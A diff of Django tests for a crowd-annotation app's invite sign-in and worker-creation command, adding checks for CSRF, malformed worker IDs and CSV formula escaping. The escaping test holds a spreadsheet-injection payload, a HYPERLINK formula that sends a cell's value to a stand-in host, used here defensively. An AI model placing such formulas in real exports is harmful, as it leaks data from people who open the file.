@@ -29,10 +29,12 @@ def csrf_token(client: Client, url: str) -> str:
 def test_invite_link_signs_in_and_the_worker_rates_with_csrf(project):
     worker = services.worker_create(project=project, external_id="crowd-1")
     client = csrf_client()
-    join = reverse("annotation:join", args=[worker.invite_token])
+    join = reverse("annotation:join")
     assert client.get(join).status_code == 200
-    assert client.post(join).status_code == 403  # no CSRF token
-    response = client.post(join, {"csrfmiddlewaretoken": csrf_token(client, join)})
+    assert client.post(join, {"token": worker.invite_token}).status_code == 403  # no CSRF token
+    response = client.post(
+        join, {"token": worker.invite_token, "csrfmiddlewaretoken": csrf_token(client, join)}
+    )
     assert response.status_code == 302
     page = client.get(reverse("annotation:work"))
     assert page.status_code == 200
@@ -54,7 +56,7 @@ def test_invite_link_signs_in_and_the_worker_rates_with_csrf(project):
 
 
 def test_unknown_invite_is_404(db):
-    assert Client().get(reverse("annotation:join", args=["nope"])).status_code == 404
+    assert Client().post(reverse("annotation:join"), {"token": "nope"}).status_code == 404
 
 
 def test_skip_and_invalid_form(project):
@@ -178,7 +180,7 @@ def test_create_workers_command(project, tmp_path):
     call_command("create_workers", project=project.slug, count=2, out=str(out), external_ids=str(ids))
     rows = list(csv.DictReader(out.open()))
     assert [row["external_id"] for row in rows] == ["a-1", "a-2"]
-    assert all(row["invite_url"].startswith("/annotate/join/") and row["api_token"] for row in rows)
+    assert all(row["invite_url"].startswith("/annotate/join/#") and row["api_token"] for row in rows)
     assert set(Worker.objects.filter(projects=project).values_list("external_id", flat=True)) == {
         "a-1",
         "a-2",
@@ -189,3 +191,57 @@ def test_create_workers_command(project, tmp_path):
         call_command("create_workers", project="missing", count=1, out=str(out))
     call_command("create_workers", project=project.slug, count=3, out=str(out))
     assert Worker.objects.count() == 5
+
+
+@pytest.mark.parametrize(
+    ("ids", "error"),
+    [
+        (b"a-1\n a-1\n", "line 2: ' a-1' has leading or trailing whitespace"),
+        (b"a-1\na-2 \n", "line 2: 'a-2 ' has leading or trailing whitespace"),
+        (b"a-1\ra-2\n", "line 1: 'a-1\\ra-2' has a control or invisible character"),
+        (b"a-1\na\xe2\x80\x8b-2\n", "line 2: 'a\\u200b-2' has a control or invisible character"),
+    ],
+)
+def test_create_workers_refuses_ids_that_could_merge_or_mislead(project, tmp_path, ids, error):
+    path = tmp_path / "ids.txt"
+    path.write_bytes(ids)
+    with pytest.raises(CommandError) as caught:
+        call_command(
+            "create_workers",
+            project=project.slug,
+            count=2,
+            out=str(tmp_path / "w.csv"),
+            external_ids=str(path),
+        )
+    assert error in str(caught.value)
+    assert not Worker.objects.exists()
+
+
+def test_create_workers_reads_windows_line_ends(project, tmp_path):
+    path = tmp_path / "ids.txt"
+    path.write_bytes(b"a-1\r\na-2\r\n")
+    call_command(
+        "create_workers", project=project.slug, count=2, out=str(tmp_path / "w.csv"), external_ids=str(path)
+    )
+    assert sorted(Worker.objects.values_list("external_id", flat=True)) == ["a-1", "a-2"]
+
+
+def test_worker_ids_are_validated_by_the_service(project):
+    from django.core.exceptions import ValidationError
+
+    with pytest.raises(ValidationError, match="leading or trailing whitespace"):
+        services.worker_create(project=project, external_id="a-1\r")
+    assert not Worker.objects.exists()
+
+
+def test_create_workers_escapes_formulas_in_its_csv(project, tmp_path):
+    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3", "@SUM(A1)"]
+    path = tmp_path / "ids.txt"
+    path.write_text("\n".join(formulas) + "\n")
+    out = tmp_path / "workers.csv"
+    call_command("create_workers", project=project.slug, count=4, out=str(out), external_ids=str(path))
+    with out.open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["external_id"] for row in rows] == ["'" + value for value in formulas]
+    # The workers keep their ids as given.
+    assert sorted(Worker.objects.values_list("external_id", flat=True)) == sorted(formulas)
